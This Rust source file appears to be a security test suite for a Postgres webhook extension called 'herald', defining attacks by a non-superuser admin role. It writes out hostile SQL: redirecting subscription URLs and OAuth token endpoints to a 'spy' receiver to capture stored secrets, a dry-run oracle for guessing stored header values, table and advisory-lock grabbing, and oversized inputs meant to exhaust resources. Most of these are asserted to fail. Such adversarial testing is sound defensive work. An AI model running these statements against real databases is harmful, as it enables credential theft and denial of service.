//! A role of the level admin, but no superuser: it wants what is stored for others, or to stop everybody.

use super::attack::Attack;
use super::evidence::{SEEN, VALUES};
use super::statement::fails;
use super::values::{self, assigned, one_of};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "locks views and stays",
        statements: |_, dice| {
            let locked = [
                "herald.subscription",
                "herald.tenant",
                "herald.plan",
                "herald.event",
                "herald.pending",
                "herald.subscription_stats",
                "herald_internal.subscription",
            ];
            let mode = one_of(&["share", "exclusive", "access exclusive"], dice);
            vec![
                "begin".to_owned(),
                fails(&format!(
                    "lock table {} in {mode} mode",
                    one_of(&locked, dice)
                )),
                "rollback".to_owned(),
            ]
        },
    },
    Attack {
        name: "changes tenants and stays",
        statements: |_, dice| {
            let change = [
                "update herald.tenant set plan = plan",
                "select 1 from herald.tenant for update",
                "insert into herald.tenant (name) values ('new')",
                "insert into herald.plan (name) values ('new')",
                "update herald.subscription set description = 'idle' where name = 'sick.1'",
                "select herald.subscribe('idle', url => 'https://example.com/')",
                "select herald.watch('carol.people')",
            ];
            vec![
                "begin".to_owned(),
                one_of(&change, dice).to_owned(),
                "select pg_sleep(1.5)".to_owned(),
                "rollback".to_owned(),
            ]
        },
    },
    Attack {
        name: "points stored values at a receiver of its own",
        statements: |scene, dice| {
            let spy = &scene.spy;
            let same = r#"headers => '{"X-Key": "***"}'"#;
            let oauth = format!(
                r#"{{"type": "oauth2", "token_url": "{spy}", "client_id": "herald", "client_secret": "***"}}"#
            );
            let taken = [
                format!("update herald.subscription set url = '{spy}' where name = 'trusted'"),
                format!(
                    "update herald.subscription set url = '{spy}', headers = '{{\"X-Key\": \"***\"}}' where name = 'trusted'"
                ),
                format!("update herald.subscription set url = '{spy}' where name like 'trusted%'"),
                format!("select herald.subscribe('trusted', url => '{spy}', {same})"),
                format!(
                    "select herald.subscribe('trusted', url => '{spy}', headers => '{{}}', auth => '{{\"type\": \"bearer\", \"token\": \"***\"}}')"
                ),
                format!("select herald.subscribe('trusted.oauth', auth => '{oauth}')"),
                format!(
                    "update herald.subscription set auth = '{oauth}' where name = 'trusted.oauth'"
                ),
                format!(
                    r#"select herald.apply('{{"subscriptions": [{{"name": "trusted", "url": "{spy}", "headers": {{"X-Key": "***"}}}}]}}')"#
                ),
            ];
            let taken = &taken[dice.below(taken.len() as u64) as usize];
            let ping =
                |name: &str| format!("select * from herald.ping('{name}', timeout => '1 s')");
            vec![fails(taken), ping("trusted"), ping("trusted.oauth")]
        },
    },
    Attack {
        name: "asks for stored values",
        statements: |_, _| {
            [
                "select s::text from herald.subscription s where name like 'trusted%'",
                "select p::text from herald.event e, lateral herald.preview('trusted', e.uid::text) p where e.type = 'kept' limit 3",
                "select a::text from herald.audit a order by id desc limit 20",
                "select a::text from herald.attempt a order by 1 desc limit 5",
                "select d::text from herald.doctor() d",
                "/* must fail */ select * from herald.secret",
                "/* must fail */ select * from herald_internal.subscription",
                "/* must fail */ select herald_internal.generate_secret()",
            ]
            .map(str::to_owned)
            .to_vec()
        },
    },
    Attack {
        name: "guesses stored values",
        statements: |_, _| {
            let apply = |value: &str| {
                format!(
                    "(select string_agg(a::text, '' order by a::text)
                      from herald.apply(jsonb_build_object('subscriptions', jsonb_build_array(jsonb_build_object(
                          'name', 'trusted.guessed', 'url', s.url, 'types', s.types,
                          'headers', jsonb_build_object('X-Key', '{value}')))), dry_run => true) a)"
                )
            };
            vec![format!(
                "select '{SEEN}: whether a value is stored' from herald.subscription s
                 where s.name = 'trusted.guessed' and {} is distinct from {}",
                apply(VALUES.guessed),
                apply("something-else")
            )]
        },
    },
    Attack {
        name: "stores what cannot be read",
        statements: |scene, dice| {
            let url = &scene.spy;
            let option = values::unreadable(dice);
            vec![
                fails(&format!(
                    "update herald.subscription set {} where name = 'sick.1'",
                    assigned(option)
                )),
                fails(&format!(
                    "select herald.subscribe('unreadable', url => '{url}', {option})"
                )),
                fails(&format!(
                    r#"select herald.apply('{{"subscriptions": [{{"name": "unreadable", "url": "{url}", "retry_schedule": [null], "types": [null]}}]}}')"#
                )),
            ]
        },
    },
    Attack {
        name: "stores options without end",
        statements: |scene, dice| {
            let url = &scene.spy;
            let option = values::endless(dice);
            vec![fails(&format!(
                "select herald.subscribe('long', url => '{url}', {option})"
            ))]
        },
    },
    Attack {
        name: "stores templates without end",
        statements: |scene, dice| {
            let url = &scene.sick;
            let template = values::template(dice);
            vec![
                format!("select herald.subscribe('endless.admin', url => '{url}', types => '{{never}}', format => 'template', template => '{{{{ 1 }}}}')"),
                format!("update herald.subscription set template = {template} where name = 'endless.admin'"),
                "select p::text from herald.event e, lateral herald.preview('endless.admin', e.uid::text) p where e.type = 'kept' limit 1"
                    .to_owned(),
                "select herald.unsubscribe('endless.admin')".to_owned(),
            ]
        },
    },
    Attack {
        name: "changes a subscription each 150 ms",
        statements: |_, dice| {
            let change = |_| {
                let number = 1 + dice.below(300);
                format!(
                    "update herald.subscription set description = '{}' where name = 'idle.{number}'; select pg_sleep(0.15)",
                    dice.below(1_000)
                )
            };
            (0..10).map(change).collect()
        },
    },
    Attack {
        name: "takes every lock that it sees",
        statements: |_, _| {
            let lock = "select count(pg_try_advisory_lock(classid::bigint << 32 | objid::bigint)), count(pg_sleep(0.2))
                        from (select * from pg_locks where locktype = 'advisory' and pid <> pg_backend_pid() limit 5) l";
            vec![
                lock.to_owned(),
                "select pg_advisory_unlock_all()".to_owned(),
            ]
        },
    },
    Attack {
        name: "verifies and asks without end",
        statements: |_, dice| {
            let length = one_of(&[50_000_000, 200_000_000], dice);
            let long = [
                format!(
                    "select herald.verify('standard', 'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw', '{{}}', repeat('y', {length})::bytea)"
                ),
                format!("select herald.verify(repeat('y', {length}), 's', '{{}}', '')"),
                format!("select * from herald.why(repeat('x', {length}))"),
                format!("select herald.pause(repeat('x', {length}))"),
            ];
            let long = &long[dice.below(4) as usize];
            vec!["set statement_timeout = '300ms'".to_owned(), fails(long)]
        },
    },
];
